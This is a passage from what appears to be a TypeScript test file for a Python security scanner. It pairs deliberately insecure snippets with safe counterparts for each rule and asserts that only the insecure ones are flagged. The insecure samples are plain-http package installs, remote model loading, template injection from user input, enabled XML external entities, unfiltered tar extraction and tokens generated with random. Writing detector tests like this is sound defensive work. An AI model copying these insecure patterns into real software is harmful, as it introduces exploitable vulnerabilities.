    ],
    honest: [
      'class A:\n    def __reduce__(self):\n        return (A, (self.x,))',
      'import os\nclass A:\n    def run(self):\n        return (os.system, ("id",))',
    ],
  },
  {
    rule: 'insecure-download',
    severity: 'low',
    bad: [
      "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', 'http://x.y/simple', 'a'])",
      "import pip\npip.main(['install', 'git+http://x.y/a.git'])",
    ],
    honest: ["import os\nos.system('pip install --index-url https://x.y/simple a')"],
  },
  {
    rule: 'remote-model-load',
    severity: 'high',
    bad: ["from ultralytics import YOLO\nYOLO('http://x.y/best.pt')"],
    honest: ["from ultralytics import YOLO\nYOLO('yolov8n.pt')"],
  },
  {
    rule: 'template-injection',
    severity: 'high',
    bad: ['from mako.template import Template\nTemplate(input()).render()'],
    honest: ["from mako.template import Template\nTemplate('a <%text>').render(b=input())"],
  },
  {
    rule: 'xml-entities',
    severity: 'medium',
    bad: ['import xml.sax\np = xml.sax.make_parser()\np.setFeature(xml.sax.handler.feature_external_ges, True)'],
    honest: ['import xml.sax\np = xml.sax.make_parser()\np.setFeature(xml.sax.handler.feature_external_ges, False)'],
  },
  {
    rule: 'archive-extraction',
    severity: 'low',
    bad: ["import tarfile\ntarfile.open('a').extractall('d', filter='fully_trusted')"],
    honest: ["import tarfile\ntarfile.open('a').extractall('d', filter=tarfile.data_filter)"],
  },
  {
    rule: 'predictable-secret',
    severity: 'medium',
    bad: ["import random, string\ntoken = ''.join(random.choices(string.ascii_letters, k=32))"],
    honest: [
      'import random\nnext_token = random.choices(vocabulary, weights=p)[0]\ntoken = random.randint(0, size)',
      'import secrets\ntoken = secrets.token_hex(16)',
    ],
  },
];

const told = (text: string): string[] =>
  judge({ name: 'a.py', text: `${text}\n` }, PYTHON_ANALYSER).map(
    ({ rule, severity }) => `${rule.id.slice('python/'.length)} ${severity ?? rule.severity}`,
  );

describe('rules about calls', () => {
  for (const { rule, severity, bad, honest } of CASES) {
    it(`${rule}, ${severity}`, () => {
      for (const text of bad) assert.ok(told(text).includes(`${rule} ${severity}`), `${text}\ngave ${told(text)}`);
      for (const text of honest) {
        assert.ok(!told(text).some((one) => one.startsWith(`${rule} `)), `${text}\ngave ${told(text)}`);
        assert.ok(!told(text).some((one) => /(?:medium|high|critical)$/.test(one)), `${text}\ngave ${told(text)}`);
      }
    });
  }
});
